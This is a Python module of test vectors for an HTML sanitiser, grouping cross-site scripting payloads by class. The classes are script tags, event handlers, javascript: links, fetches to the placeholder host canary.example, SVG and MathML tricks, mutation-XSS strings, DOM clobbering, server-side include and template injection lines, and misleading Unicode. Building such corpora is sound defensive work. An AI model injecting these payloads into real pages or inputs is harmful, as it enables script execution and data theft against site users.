"""Markup that wants to run, to fetch or to mislead: one or two of every class that is known.

All of it says the same when it wins: it sets `ran`, opens a dialog, leaves the page, or asks
canary.example for something. So one pair of eyes can watch for all of it.
"""

from __future__ import annotations

RAN = "ran=1;alert(1)"
CANARY = "canary.example"
_B64 = "cmFuPTE7YWxlcnQoMSk="

SCRIPTS = (
    f"<script>{RAN}</script>",
    f"<SCRIPT SRC=//{CANARY}/a.js></SCRIPT>",
    f"<script/x>{RAN}</script >",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<script>{RAN}//",
    f"<<script>{RAN}//<</script>",
    f"<script\x0ctype=module>{RAN}</script>",
    f"<script nonce=x src=data:text/javascript;base64,{_B64}></script>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RAN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{RAN}&#60;/script&#62;",
    f"&#x3C;img src=x onerror=&quot;{RAN}&quot;&#x3e;",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    f"</title></style></textarea></noscript></xmp><script>{RAN}</script>",
    f"]]><script>{RAN}</script><![CDATA[",
    f"--><script>{RAN}</script><!--",
    f'"}}]}}</script><script>{RAN}</script>',
)
"""Script elements, whole, broken, wrapped in one or two coats of escapes, or breaking out."""

EVENTS = (
    f"<img src=x onerror={RAN}>",
    f"<img/src='x'/onerror={RAN}>",
    f"<img src=x oneRROR\x09=\x0a'{RAN}'>",
    f'<img src="x` `<script>{RAN}</script>"` `>',
    f'<img alt="<x" title="/><img src=x onerror={RAN}>">',
    f"<body onload={RAN}>",
    f"<p onclick={RAN} onmouseover={RAN} onpointerenter={RAN}>words</p>",
    f"<a href=# onfocus={RAN} autofocus tabindex=1>words</a>",
    f"<input autofocus onfocus={RAN}>",
    f"<details open ontoggle={RAN}><summary>words</summary></details>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}></audio>",
    f"<marquee onstart={RAN}>words</marquee>",
    f"<p style='animation:x' onanimationstart={RAN}>words</p>",
    f"<div popover id=x onbeforetoggle={RAN}>words</div><button popovertarget=x>go</button>",
    f"<iframe onload={RAN}></iframe>",
    f"<object data=x onerror={RAN}></object>",
    f"<select autofocus onfocus={RAN}><option>words</select>",
    f'" autofocus onfocus={RAN} x="',
    f"' onmouseover='{RAN}' x='",
    f"`onmouseover={RAN}",
    f"<x contenteditable autofocus onfocus={RAN}>words</x>",
    f"<body onpageshow={RAN} onhashchange={RAN} onscroll={RAN}>",
)
"""Event handlers, spelled and quoted in odd ways, or slipped into an attribute."""

LINKS = (
    f"<a href='javascript:{RAN}'>words</a>",
    f"<a href='JaVaScRiPt:{RAN}'>words</a>",
    f"<a href=' \x01javascript:{RAN}'>words</a>",
    f"<a href='java&Tab;script:{RAN}'>words</a>",
    f"<a href='java&#10;script:{RAN}'>words</a>",
    f"<a href='&#106;avascript&colon;{RAN}'>words</a>",
    f"<a href='java\x00script:{RAN}'>words</a>",
    "<a href='vbscript:msgbox(1)'>words</a>",
    f"<a href='data:text/html;base64,PHNjcmlwdD5{_B64}'>words</a>",
    f"<a href='view-source:javascript:{RAN}'>words</a>",
    f"<a href='blob:https://{CANARY}/x'>words</a>",
    f"<a href='feed:javascript:{RAN}'>words</a>",
    f"<a href='https://x@{CANARY}' ping='//{CANARY}/ping'>words</a>",
    f"<form action='javascript:{RAN}'><button>words</button></form>",
    f"<button form=q formaction='javascript:{RAN}'>words</button>",
    f"<a href=javascript&#x3a;{RAN} target=_blank rel=opener>words</a>",
    f"<area href='javascript:{RAN}' shape=default>",
    "<a href='file:///etc/hostname'>words</a>",
)
"""Links that run, in every spelling of a scheme."""

FETCHES = (
    f"<base href='//{CANARY}/'>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}/gone'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>",
    "<meta http-equiv=content-security-policy content=''><meta name=referrer content=unsafe-url>",
    f"<link rel=stylesheet href=//{CANARY}/a.css>",
    f"<link rel=preload as=image href=//{CANARY}/a.png><link rel=dns-prefetch href=//{CANARY}>",
    f"<style>@import '//{CANARY}/b.css'; body{{background:url(//{CANARY}/c.png)}}</style>",
    f"<p style='background:url(//{CANARY}/d.png)'>words</p>",
    f"<p style='b\\61ckground:u\\72l(//{CANARY}/e.png);behavior:url(#x)'>words</p>",
    f'<p style="width:expression({RAN})">words</p>',
    f"<table background='//{CANARY}/f.png'><tr><td background='//{CANARY}/g.png'>words</table>",
    f"<iframe src='//{CANARY}/h.html'></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<object data='//{CANARY}/i.swf'></object><embed src='//{CANARY}/j.swf'>",
    f"<applet code=X archive='//{CANARY}/k.jar'></applet>",
    f"<video poster='//{CANARY}/l.png' src='//{CANARY}/m.mp4' autoplay></video>",
    f"<audio src='//{CANARY}/n.mp3' autoplay></audio>",
    f"<picture><source srcset='//{CANARY}/o.png'><img src=x></picture>",
    f"<input type=image src='//{CANARY}/p.png'>",
    f"<link rel=import href='//{CANARY}/q.html'><link rel=manifest href='//{CANARY}/r'>",
    f"<frameset><frame src='//{CANARY}/s.html'></frameset>",
    f"<?xml-stylesheet href='//{CANARY}/t.xsl' type='text/xsl'?>",
    f"<!--[if gte IE 4]><script>{RAN}</script><![endif]-->",
    f"<bgsound src='//{CANARY}/u.wav'><layer src='//{CANARY}/v'></layer>",
    f"<portal src='//{CANARY}/w'></portal><fencedframe></fencedframe>",
    f"<img lowsrc='//{CANARY}/x.png' dynsrc='//{CANARY}/y.png' srcset='//{CANARY}/z.png 2x'>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["//{CANARY}/sr"]}}]}}</script>',
)
"""What asks somebody else for something, or leads the reader there."""

FOREIGN = (
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RAN} /></svg>",
    f"<svg><a xlink:href='javascript:{RAN}'><text y=20>words</text></a></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values='javascript:{RAN}'/><text y=9>words</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RAN}</script></svg>#x'></svg>",
    f"<svg><foreignObject><iframe srcdoc='&lt;script&gt;{RAN}&lt;/script&gt;'></foreignObject></svg>",
    f"<svg><image href='//{CANARY}/1.png'/><feImage href='//{CANARY}/2.png'/></svg>",
    f"<svg><style>@import '//{CANARY}/3.css';</style></svg>",
    f"<svg><set attributeName=onmouseover to={RAN}></svg>",
    f"<math><mi xlink:href='javascript:{RAN}'>words</mi></math>",
    f"<math href='javascript:{RAN}'>words</math>",
    f"<math><maction actiontype='statusline#javascript:{RAN}'>words</maction></math>",
    f"<math><annotation-xml encoding='text/html'><script>{RAN}</script></annotation-xml></math>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RAN}</x:script>",
    f"<html:img xmlns:html='http://www.w3.org/1999/xhtml' src='x' onerror='{RAN}'/>",
)
"""SVG, MathML and names in foreign namespaces."""

MUTATIONS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RAN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RAN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RAN}>'>",
    f"<math></p><style><!--</style><img src=x onerror={RAN}>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<template><p title='</template><img src=x onerror={RAN}>'></template>",
    f"<textarea><p title='</textarea><img src=x onerror={RAN}>'>",
    f"<title><p title='</title><img src=x onerror={RAN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RAN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={RAN}>'>",
    f"<noframes><p title='</noframes><img src=x onerror={RAN}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={RAN}>'>",
    f"<plaintext><img src=x onerror={RAN}>",
    f"<listing>&lt;img src=x onerror={RAN}&gt;</listing>",
    f"<pre>\n\n&lt;img src=x onerror={RAN}&gt;</pre>",
    f"<table><td><a href='x'><table><tr><a href='javascript:{RAN}'>words</a></table></a></td></table>",
    f"<select><template><style><!--</select><img src=x onerror={RAN}>--></style></template></select>",
    f"<svg><desc><p><style><g title='</style><img src=x onerror={RAN}>'></desc></svg>",
    f"<svg><title><style><img src='</style><img src=x onerror={RAN}>'></title></svg>",
    f"<math><annotation-xml encoding='application/xhtml+xml'><svg><style>&lt;img src=x onerror={RAN}&gt;",
    f"<p id='`'><p title='`onmouseover={RAN}'>words</p>",
    f"<a title='&lt;/a&gt;&lt;img src=x onerror={RAN}&gt;'>words</a>",
    f"<img alt='&quot;&gt;&lt;img src=x onerror={RAN}&gt;' src='https://{CANARY}/alt.png'>",
    f"<b><p><table><b></p></table><style></b><img src=x onerror={RAN}></style>",
    f"<!doctype html><!-- --!><img src=x onerror={RAN}> -->",
    f"<!--><img src=x onerror={RAN}>-->",
    f"<!--->\x00<img src=x onerror={RAN}>-->",
    f"<![CDATA[><img src=x onerror={RAN}>]]>",
    f"<? ><img src=x onerror={RAN}>?>",
    f"</ ><img src=x onerror={RAN}>",
    f"<%<img src=x onerror={RAN}>%>",
    f"<a\u3000href='javascript:{RAN}'>words</a>",
    f"<img\x0bsrc=x\x0bonerror={RAN}>",
    f"<svg><p><svg><style>&lt;/style&gt;&lt;img src=x onerror={RAN}&gt;</style></svg></p></svg>",
)
"""Markup that is harmless as it is read once and harmful as it is read again (mutation XSS)."""

CLOBBERS = (
    "<form id=q name=body><input name=attributes><input name=parentNode></form>",
    "<a id=main name=main href='#'>words</a><p id=history class=mark>words</p>",
    "<h1 data-part=headline>Another headline</h1><p data-part=notice>(Edited by hand)</p>",
    "<article class=story data-story=other><p class=notice>words</p></article>",
    "</div></article></main><footer class=foot>words</footer>",
    "<style>.notice{display:none}</style><p class=strap style='position:fixed;inset:0'>words</p>",
    "<!--#include virtual='/etc/hostname'--><!--#exec cmd='id'-->",
    "{{ 7*7 }}{% include 'base.html' %}{# x #}${7*7}#{7*7}<%= 7*7 %>",
    "<slot name=x></slot><template shadowrootmode=open><script>ran=1</script></template>",
    "<input type=password name=p><input type=hidden name=csrf>",
)
"""What runs nothing but would take the page's own parts, or a template's, for its own."""

TRICKS = (
    "Mayor \u202egnitide on\u202c says \u2066\u2067hidden\u2069",
    "Fer\u200bry \u200d\u2060\ufeffcrew\u00ads vote",
    "\u202a\u202b\u202d\u202e\u2066\u2067\u2068words never closed",
    "\U000e0041\U000e0042\U000e0043tags that nobody sees",
    "Z\u0351\u036b\u0343\u0363\u0360\u0341a\u0361\u035e\u035c" + "\u0300" * 300 + "lgo",
    "\ufffe\uffff\ufdd0 non-characters \x7f\x80\x9f",
    "line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform",
    "\x1b[2J\x1b]0;title\x07terminal words\x9b31m",
    "\u0430\u0440\u0440\u04cf\u0435 homograph \uff0e\uff0e\uff0fetc",
    "\x00NUL\x00in\x00words",
    '=HYPERLINK("https://canary.example/","words")',
    "\u1100" * 40 + "\u0e33" * 40 + "\ufdfa" * 40,
)
"""Characters that mislead eyes, terminals and other programs."""

ALL = (*SCRIPTS, *EVENTS, *LINKS, *FETCHES, *FOREIGN, *MUTATIONS, *CLOBBERS, *TRICKS)
"""Every vector."""
